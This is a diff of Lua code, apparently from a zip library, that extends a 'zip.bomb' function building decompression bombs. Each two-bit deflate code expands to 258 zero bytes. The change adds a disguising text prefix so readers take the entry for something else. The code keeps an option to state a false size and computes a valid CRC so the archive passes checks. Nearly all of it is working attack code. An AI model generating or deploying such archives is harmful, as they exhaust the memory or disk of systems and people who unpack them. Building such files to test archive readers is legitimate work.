@@ -37,9 +37,9 @@ local function squared(map)
   return out
 end
 
--- CRC-32 of n zero bytes: one zero byte is a linear map of the checksum, n of them its power.
-local function crc32_of_zeros(n)
-  local map, crc = {}, 0xffffffff
+-- CRC-32 of a text and n zero bytes: one zero is a linear map of the checksum, n of them its power.
+local function crc32_with_zeros(text, n)
+  local map, crc = {}, zip.crc32(text) ~ 0xffffffff
   for i = 0, 31 do
     local bit = 1 << i
     map[i] = bit >> 8 ~ CRC[bit & 0xff]
@@ -78,6 +78,13 @@ local CODE_LENGTHS = { [17] = 0, [16] = 0, [18] = 1, [1] = 2, [2] = 2 }
 local ORDER = { 16, 17, 18, 0, 8, 7, 9, 6, 10, 5, 11, 4, 12, 3, 13, 2, 14, 1 }
 local RUN_OF_ZEROS, LENGTH_1, LENGTH_2 = "0", "10", "11"
 
+local function stored_block(w, text)
+  w.number(0, 8) -- not the last one, stored, and what fills its byte
+  w.number(#text, 16)
+  w.number(~#text & 0xffff, 16)
+  for i = 1, #text do w.number(text:byte(i), 8) end
+end
+
 -- A block with three codes: "0" repeats the byte before 258 times, "10" is a zero byte, "11" the end.
 -- The only distance, 1, is "0" too, so that a bit pair of zeros stands for 258 bytes.
 local function run_block_head(w)
@@ -100,16 +107,18 @@ local function run_block_head(w)
   w.code(LENGTH_1)
 end
 
--- An entry of 1 + 258 * runs zero bytes. Runs are a multiple of four, to fill whole bytes.
--- stated_size: what the archive claims instead.
-function zip.bomb(name, runs, stated_size)
-  local w = bit_writer()
+-- An entry of 1 + 258 * runs zero bytes. Options: prefix (a text before them, under 64 KiB, so that a
+-- reader takes the entry for what it pretends to be), stated_size (what the archive claims instead).
+function zip.bomb(name, runs, options)
+  local w, prefix = bit_writer(), options and options.prefix or ""
+  if prefix ~= "" then stored_block(w, prefix) end
   run_block_head(w)
   w.code("10")
   for _ = 1, runs do w.number(0, 2) end
   w.code("11")
-  local size = 1 + 258 * runs
-  return { name = name, packed = w.close(), size = stated_size or size, crc = crc32_of_zeros(size) }
+  local zeros = 1 + 258 * runs
+  local size = options and options.stated_size or #prefix + zeros
+  return { name = name, packed = w.close(), size = size, crc = crc32_with_zeros(prefix, zeros) }
 end
 
 local function prepared(entry)
